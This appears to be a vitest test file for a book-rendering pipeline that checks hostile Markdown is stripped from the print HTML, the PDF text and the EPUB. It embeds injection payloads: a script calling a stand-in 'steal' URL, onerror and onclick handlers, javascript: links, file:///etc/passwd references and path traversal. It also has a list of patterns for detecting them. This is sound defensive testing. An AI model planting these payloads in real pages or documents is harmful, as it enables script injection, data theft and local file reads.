/**
 * A hostile manuscript: raw HTML, event handlers, javascript: and file: URLs, paths that climb
 * out of the manuscript folder. Nothing of it may reach print.html, the PDF text or the EPUB,
 * and no request may leave the layout browser.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { normalizeManuscript } from '../../pipeline/normalize/index.ts';
import { loadConfig } from '../../pipeline/config/load.ts';
import { BrowserSession, renderPrint } from '../../pipeline/render/print/index.ts';
import { renderEpub } from '../../pipeline/render/epub/index.ts';
import { ROOT } from '../support/cli.ts';

const HOSTILE = `# 目录

## 第一篇 测试篇

恶意稿件测试.....	测试单位 (01)

# 恶意稿件测试

测试单位

正文第一段<script>window.pwned = 1; fetch('http://example.com/steal')</script>继续。

<iframe src="http://example.com/frame"></iframe>

<img src="x" onerror="window.pwned = 2">

<object data="file:///etc/passwd"></object>

点击[这里](javascript:alert(1))或者[那里](http://example.com/ok)。

![机密](file:///etc/passwd)

![越界](../../../../etc/hostname)

![远程](http://example.com/tracker.png)

<div onclick="alert(1)" style="background:url(http://example.com/bg.png)">嵌入的块</div>

最后一段正文。
`;

const FORBIDDEN = [/<script/i, /onerror/i, /onclick/i, /<iframe/i, /<object/i, /javascript:/i, /file:\/\//i, /etc\/passwd/, /etc\/hostname/, /example\.com\/(steal|frame|tracker|bg)/, /pwned/];

describe('hostile manuscript', () => {
  const dir = mkdtempSync(join(tmpdir(), 'juan-hostile-'));
  const path = join(dir, 'hostile.md');
  writeFileSync(path, HOSTILE);
  let session: BrowserSession;
  let html: string;
  let pdfText: string;
  let epubFiles: Record<string, string>;
  let probe = 'not run';

  beforeAll(async () => {
    const config = loadConfig(join(ROOT, 'manuscript', 'book.yaml'));
    const { volume } = normalizeManuscript({ path, config });
    session = await BrowserSession.launch();
    // A probe request from inside the laid-out page shows the block works (the control).
    const print = await renderPrint(volume, {
      session,
      inspect: async (page) => {
        probe = await page.evaluate(() =>
          fetch('http://example.com/probe').then(() => 'reached', () => 'failed'),
        );
      },
    });
    html = print.html;
    writeFileSync(join(dir, 'book.pdf'), print.pdf);
    pdfText = execFileSync('pdftotext', ['-enc', 'UTF-8', join(dir, 'book.pdf'), '-'], { encoding: 'utf8' });
    const zip = await JSZip.loadAsync(await renderEpub(volume, print.pageMap));
    epubFiles = {};
    for (const name of Object.keys(zip.files)) {
      if (/\.(xhtml|opf|ncx|css|html)$/.test(name)) epubFiles[name] = await zip.file(name)!.async('string');
    }
  });
  afterAll(async () => session?.close());

  it('keeps the text around the hostile markup', () => {
    expect(html).toContain('正文第一段');
    expect(html).toContain('最后一段正文');
    expect(pdfText).toContain('最后一段正文');
  });

  it('puts none of it into print.html', () => {
    for (const pattern of FORBIDDEN) expect(html, String(pattern)).not.toMatch(pattern);
  });

  it('puts none of it into the PDF text', () => {
    for (const pattern of FORBIDDEN) expect(pdfText, String(pattern)).not.toMatch(pattern);
  });

  it('puts none of it into the EPUB', () => {
    const all = Object.values(epubFiles).join('\n');
    expect(all).toContain('最后一段正文');
    for (const pattern of FORBIDDEN) expect(all, String(pattern)).not.toMatch(pattern);
    expect(all).not.toMatch(/<img[^>]+src="(https?:|\/|\.\.)/);
  });

  it('let no request leave the browser: only our probe was attempted, and it failed', () => {
    expect(probe).toBe('failed');
    // Blocked requests (route interception) or refused ones (Content-Security-Policy) are logged.
    const external = session.log.filter((line) => /(https?|file):\/\/(?!127\.0\.0\.1)/.test(line));
    expect(external.length).toBeGreaterThan(0);
    expect(external.filter((line) => !line.includes('example.com/probe'))).toEqual([]);
  });
});
